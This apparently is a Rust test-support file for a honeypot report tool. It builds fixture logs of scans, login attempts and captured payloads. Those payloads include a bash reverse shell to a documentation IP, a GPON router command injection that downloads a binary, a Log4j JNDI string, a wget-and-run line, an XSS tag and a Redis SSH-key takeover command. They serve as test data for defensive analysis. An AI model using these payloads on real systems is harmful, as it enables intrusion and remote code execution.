//! Shared by the integration tests: the fixture capture (known scans,
//! payloads and countries; the expected figures are worked out by hand in
//! `golden.rs`), a tiny GeoIP database written with the `mmdb-writer`
//! package of the test virtualenv, and a way to run the report through its
//! real argument parser.
#![allow(dead_code)]

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use base64::Engine as _;
use clap::Parser;
use serde_json::{Value, json};

#[derive(Parser)]
struct Cli {
    #[command(flatten)]
    args: mirage_report::ReportArgs,
}

/// Parse `args` as `mirage report` would.
pub fn args(args: &[&str]) -> mirage_report::ReportArgs {
    let mut v = vec!["report"];
    v.extend_from_slice(args);
    Cli::try_parse_from(v)
        .unwrap_or_else(|e| panic!("bad test args {args:?}: {e}"))
        .args
}

/// Run the report, returning its output.
pub fn run(a: &[&str]) -> Result<String, mirage_report::ReportError> {
    mirage_report::report_to_string(&args(a))
}

/// Run with `--format json` and parse the result.
pub fn json_report(a: &[&str]) -> Value {
    let mut v = a.to_vec();
    v.extend_from_slice(&["--format", "json"]);
    let text = run(&v).unwrap_or_else(|e| panic!("report failed: {e}"));
    serde_json::from_str(&text).expect("report JSON parses")
}

/// A fresh temporary directory.
pub fn tmp_dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!(
        "mirage-report-{tag}-{}",
        mirage_testkit::unique_suffix()
    ));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).expect("create temp dir");
    d
}

pub const A: &str = "198.51.100.10"; // vertical scanner, NL
pub const B: &str = "192.0.2.20"; // horizontal scanner, RU
pub const C: &str = "192.0.2.130"; // exploit sender, CN
pub const D: &str = "2001:db8::5"; // ssh + redis, no country
pub const E: &str = "198.51.100.77"; // hostile payload, NL
pub const F: &str = "203.0.113.200"; // tcppc-go, no country

/// The hostile payload of source E: markup, a terminal escape, a reverse shell.
pub const HOSTILE: &[u8] =
    b"POST /x.php?<script>alert(1)</script>\x1b[31m shell=bash -i >& /dev/tcp/198.51.100.1/4444 0>&1\r\n";
pub const GPON: &[u8] = b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://198.51.100.7/m+-O+->/tmp/m`";
pub const THINKPHP: &[u8] =
    b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1\r\n\r\n";
pub const LOG4J: &[u8] =
    b"GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://198.51.100.3:1389/a}\r\n\r\n";
pub const TCPPC_WGET: &[u8] = b"cd /tmp; wget http://198.51.100.5/x.sh; sh x.sh\n";

/// One mirage event line.
#[allow(clippy::too_many_arguments)]
pub fn event(
    ts: &str,
    src: &str,
    dst: &str,
    dport: u16,
    service: &str,
    session: &str,
    kind: &str,
    extra: Value,
) -> String {
    let mut v = json!({
        "schema": 1, "id": format!("id-{session}-{ts}"), "ts": ts, "sensor": "hp1",
        "service": service, "transport": "tcp", "src_ip": src, "src_port": 40000,
        "dst_ip": dst, "dst_port": dport, "session": session, "kind": kind,
    });
    if let (Some(o), Value::Object(e)) = (v.as_object_mut(), extra) {
        o.extend(e);
    }
    v.to_string()
}

fn payload(data: &[u8]) -> Value {
    json!({
        "data_b64": base64::engine::general_purpose::STANDARD.encode(data),
        "sha256": "00", "len": data.len(), "truncated": false
    })
}

/// connect, payload, close one second apart, starting at `day`T`hms`.
#[allow(clippy::too_many_arguments)]
fn payload_session(
    out: &mut Vec<String>,
    day: &str,
    hms: (u32, u32, u32),
    src: &str,
    dport: u16,
    service: &str,
    session: &str,
    data: &[u8],
) {
    let t = |s: u32| format!("{day}T{:02}:{:02}:{:02}.000000Z", hms.0, hms.1, hms.2 + s);
    out.push(event(
        &t(0),
        src,
        "203.0.113.1",
        dport,
        service,
        session,
        "session.connect",
        json!({}),
    ));
    out.push(event(
        &t(1),
        src,
        "203.0.113.1",
        dport,
        service,
        session,
        "payload",
        payload(data),
    ));
    out.push(event(
        &t(2),
        src,
        "203.0.113.1",
        dport,
        service,
        session,
        "session.close",
        json!({"duration_ms": 2000, "bytes_in": data.len(), "bytes_out": 0, "reason": "client_closed"}),
    ));
}

/// Write the fixture capture into `dir` (see `golden.rs` for its figures):
/// `events-2026-01-01.jsonl`, `events-2026-01-02.jsonl.gz`, `tcppc.json`,
/// `kern.log`. Returns the directory.
pub fn write_fixture(dir: &Path) -> PathBuf {
    let d1 = "2026-01-01";
    let mut day1 = Vec::new();
    for i in 0..30u32 {
        let ts = format!("{d1}T10:00:{:02}.000000Z", 2 * i);
        day1.push(event(
            &ts,
            A,
            "203.0.113.1",
            1000 + i as u16,
            "catchall",
            &format!("a{i}"),
            "session.connect",
            json!({}),
        ));
    }
    for i in 0..6u32 {
        let ts = format!("{d1}T10:05:{:02}.000000Z", 10 * i);
        let dst = format!("203.0.113.{}", i + 1);
        day1.push(event(
            &ts,
            B,
            &dst,
            22,
            "ssh",
            &format!("b{i}"),
            "session.connect",
            json!({}),
        ));
    }
    payload_session(&mut day1, d1, (11, 0, 0), C, 80, "http", "s1", GPON);
    payload_session(
        &mut day1,
        d1,
        (11, 10, 0),
        C,
        8080,
        "catchall",
        "s2",
        THINKPHP,
    );
    let v6 = "2001:db8::1";
    day1.push(event(
        &format!("{d1}T12:00:00.000000Z"),
        D,
        v6,
        22,
        "ssh",
        "s3",
        "session.connect",
        json!({}),
    ));
    day1.push(event(
        &format!("{d1}T12:00:01.000000Z"),
        D,
        v6,
        22,
        "ssh",
        "s3",
        "auth.attempt",
        json!({"method": "password", "username": "root", "password": "123456", "result": "failure"}),
    ));
    day1.push(event(
        &format!("{d1}T12:00:03.000000Z"),
        D,
        v6,
        22,
        "ssh",
        "s3",
        "session.close",
        json!({"duration_ms": 3000, "bytes_in": 10, "bytes_out": 10, "reason": "client_closed"}),
    ));
    day1.push(event(
        &format!("{d1}T12:30:00.000000Z"),
        D,
        v6,
        6379,
        "redis",
        "s4",
        "session.connect",
        json!({}),
    ));
    day1.push(event(
        &format!("{d1}T12:30:01.000000Z"),
        D,
        v6,
        6379,
        "redis",
        "s4",
        "command",
        json!({"command": "config", "args": ["set", "dir", "/root/.ssh"], "raw": "CONFIG set dir /root/.ssh", "error": false}),
    ));
    day1.push(event(
        &format!("{d1}T12:30:02.000000Z"),
        D,
        v6,
        6379,
        "redis",
        "s4",
        "session.close",
        json!({"duration_ms": 2000, "bytes_in": 10, "bytes_out": 10, "reason": "client_closed"}),
    ));
    assert_eq!(day1.len(), 48);
    std::fs::write(dir.join("events-2026-01-01.jsonl"), day1.join("\n") + "\n")
        .expect("write day 1");

    let d2 = "2026-01-02";
    let mut day2 = Vec::new();
    payload_session(&mut day2, d2, (9, 0, 0), C, 80, "http", "s5", LOG4J);
    payload_session(
        &mut day2,
        d2,
        (9, 30, 0),
        E,
        8088,
        "catchall",
        "s6",
        HOSTILE,
    );
    let gz = std::fs::File::create(dir.join("events-2026-01-02.jsonl.gz")).expect("create gz");
    let mut enc = flate2::write::GzEncoder::new(gz, flate2::Compression::default());
    enc.write_all((day2.join("\n") + "\n").as_bytes())
        .expect("write gz");
    enc.finish().expect("finish gz");

    let tcppc = json!({
        "timestamp": "2026-01-02T10:00:00.000000+08:00",
        "flow": {"src": F, "sport": 51000, "dst": "192.0.2.1", "dport": 5555},
        "payloads": [{"index": 0, "timestamp": "2026-01-02T10:00:01+08:00",
                      "data": base64::engine::general_purpose::STANDARD.encode(TCPPC_WGET)}]
    });
    std::fs::write(dir.join("tcppc.json"), tcppc.to_string() + "\n").expect("write tcppc");

    let kern = [
        (0, 445),
        (1, 445),
        (2, 3389),
    ]
    .iter()
    .map(|(s, p)| {
        format!(
            "Jan  2 03:00:{s:02} honeypot kernel: [1234.5678] port_for IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={A} DST=203.0.113.1 LEN=44 TOS=0x00 PREC=0x00 TTL=240 ID=54321 PROTO=TCP SPT=4455{s} DPT={p} WINDOW=1024 RES=0x00 SYN URGP=0\n"
        )
    })
    .collect::<String>();
    std::fs::write(dir.join("kern.log"), kern).expect("write kern.log");
    dir.to_path_buf()
}

/// Write a tiny GeoIP database (GeoLite2-Country layout plus ASN fields)
/// with `mmdb-writer` from the test virtualenv.
pub fn tiny_mmdb(dir: &Path) -> PathBuf {
    let out = dir.join("tiny.mmdb");
    let script = r#"
import sys
from netaddr import IPSet
from mmdb_writer import MMDBWriter
w = MMDBWriter(ip_version=6, ipv4_compatible=True, database_type="GeoLite2-Country",
               languages=["en"], description="mirage test", int_type="u32")
def rec(code, name, asn, org):
    return {"country": {"iso_code": code, "names": {"en": name}},
            "autonomous_system_number": asn, "autonomous_system_organization": org}
w.insert_network(IPSet(["198.51.100.0/24"]), rec("NL", "Netherlands", 64500, "Example NL Hosting"))
w.insert_network(IPSet(["192.0.2.0/25"]), rec("RU", "Russia", 64501, "Example RU Net"))
w.insert_network(IPSet(["192.0.2.128/25"]), rec("CN", "China", 64502, "Example CN Telecom"))
w.to_db_file(sys.argv[1])
"#;
    let status = Command::new(mirage_testkit::venv_python())
        .arg("-c")
        .arg(script)
        .arg(&out)
        .status()
        .expect("run the venv python");
    assert!(
        status.success(),
        "writing the tiny GeoIP database failed: install `mmdb-writer` in the test virtualenv"
    );
    out
}

/// Shorthand: `v[key]` as u64.
pub fn u(v: &Value) -> u64 {
    v.as_u64().unwrap_or_else(|| panic!("not a number: {v}"))
}
